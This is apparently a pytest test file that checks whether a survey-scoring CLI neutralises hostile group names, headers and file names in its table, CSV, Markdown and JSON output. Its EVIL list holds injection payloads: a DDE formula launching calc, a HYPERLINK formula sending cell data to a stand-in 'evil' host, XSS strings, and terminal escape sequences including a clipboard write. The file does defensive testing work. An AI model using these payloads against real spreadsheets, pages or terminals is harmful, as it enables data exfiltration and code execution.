"""Hostile texts as groups, headers, labels and file names do nothing in any format."""

import csv
import io
import json
import re

import pytest
from program import SHARED, called

CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
FORMULA = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")
EVIL = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "\uff1d1+1",
    ";=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "https://evil.example/",
    "| a | b |",
    "`code`",
    "[x](javascript:alert(1))",
    "![x](http://evil/p.png)",
    "# heading",
    "---",
    "[bold]x[/bold]",
    "[/red]",
    "[link=http://evil/]x[/link]",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[2J\x1b[1;1H",
    "\x9b31m",
    "\x08\x08\x08",
    "\x7f",
    "\u202eevil",
    "a\u200bb",
    "x\\",
    "\r overwritten",
    "{{7*7}}",
    "${7*7}",
    "$x^2$",
]


def survey(groups, header="plan"):
    text = io.StringIO(newline="")
    rows = [[answer, group] for group in groups for answer in ("9", "3")]
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows([["nps", header], *rows])
    return text.getvalue().encode("utf-8")


@pytest.fixture(params=["here", "naughty strings"])
def groups(request):
    if request.param == "here":
        return EVIL
    listed = SHARED / "hostile" / "blns" / "blns.json"
    if not listed.is_file():
        pytest.skip("the shared test material is not here")
    texts = [text for text in json.loads(listed.read_text(encoding="utf-8")) if text.strip() and "\x00" not in text]
    return list(dict.fromkeys(texts))


def answer(tmp_path, groups, form, header="plan"):
    path = tmp_path / "evil.csv"
    path.write_bytes(survey(groups, header))
    found = called("score", "nps", path, "--by", "2", "--format", form, "--column", "1")
    assert found.code == 0, found.err
    assert not CONTROLS.search(found.err)
    return found.out


def test_a_table_obeys_nothing_in_the_data(groups, tmp_path):
    """A table on a pipe holds no control or direction character, and a row for every group."""
    out = answer(tmp_path, groups, "table")
    assert not CONTROLS.search(out)
    assert out.count(" to ") >= len(json.loads(answer(tmp_path, groups, "json"))["scores"])


def test_csv_holds_no_formula(groups, tmp_path):
    """No cell of the CSV output begins like a formula unless it is a number; there is one row for each group."""
    out = answer(tmp_path, groups, "csv")
    rows = list(csv.reader(io.StringIO(out, newline=""), strict=True))
    assert {len(row) for row in rows} == {len(rows[0])}
    for cell in (cell for row in rows for cell in row):
        assert NUMBER.fullmatch(cell) or not cell.startswith(FORMULA)
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e]", cell)


def test_markdown_holds_its_cells(groups, tmp_path):
    """Every row of the Markdown table has as many cells as its header, and no text of the data is a link or HTML."""
    out = answer(tmp_path, groups, "markdown")
    assert not CONTROLS.search(out)
    table = [line for line in out.splitlines() if line.startswith("|")]
    bars = {len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) for line in table}
    assert len(bars) == 1
    for line in out.splitlines():
        assert not re.search(r"(?<!\\)<[a-zA-Z/!]", line)
        assert not re.search(r"(?<!\\)\]\(", line)
        assert not re.search(r"(?<!\\)!\[", line)


def test_json_holds_the_text_itself_without_its_controls(groups, tmp_path):
    """JSON gives groups as data: no raw control character, and what is harmless is as it stands in the file."""
    out = answer(tmp_path, groups, "json")
    assert not CONTROLS.search(out.replace("\n", ""))
    shown = {next(iter(score["group"].values())) for score in json.loads(out)["scores"][1:]}
    harmless = {
        group for group in groups if group == " ".join(group.split()) and group.isprintable() and group.isascii()
    }
    assert harmless <= shown


@pytest.mark.parametrize("form", ["table", "json", "csv", "markdown", "sentence"])
@pytest.mark.parametrize("header", ["=1+1", "\x1b[31mx", "<script>alert(1)</script>", "[/red]", "a|b", "\u202eevil"])
def test_a_hostile_header_does_nothing(form, header, tmp_path):
    """A header that is a formula, markup or an escape sequence is shown and obeyed nowhere."""
    out = answer(tmp_path, ["pro", "team"], form, header)
    assert not CONTROLS.search(out.replace("\n", ""))
    if form == "csv":
        assert not [cell for row in csv.reader(io.StringIO(out)) for cell in row if cell.startswith("=")]
    if form == "markdown":
        assert not re.search(r"(?<!\\)<s", out)


@pytest.mark.parametrize("name", ["=1+1.csv", "\x1b[31mred.csv", "<b>x.csv", "[bold].csv", "\u202ecsv.csv", "a\nb.csv"])
def test_a_hostile_file_name_does_nothing(name, tmp_path):
    """A file name that is an escape sequence or markup is obeyed nowhere, in reports and in failures."""
    path = tmp_path / name
    path.write_bytes(survey(["pro"]))
    for words in (("check", path), ("score", "nps", path), ("score", "csat", path), ("score", "nps", f"{path}x")):
        for form in ("table", "json"):
            found = called(*words, "--format", form)
            assert not CONTROLS.search((found.out + found.err).replace("\n", ""))
            assert found.err.count("\n") == found.err.count("cx: ")
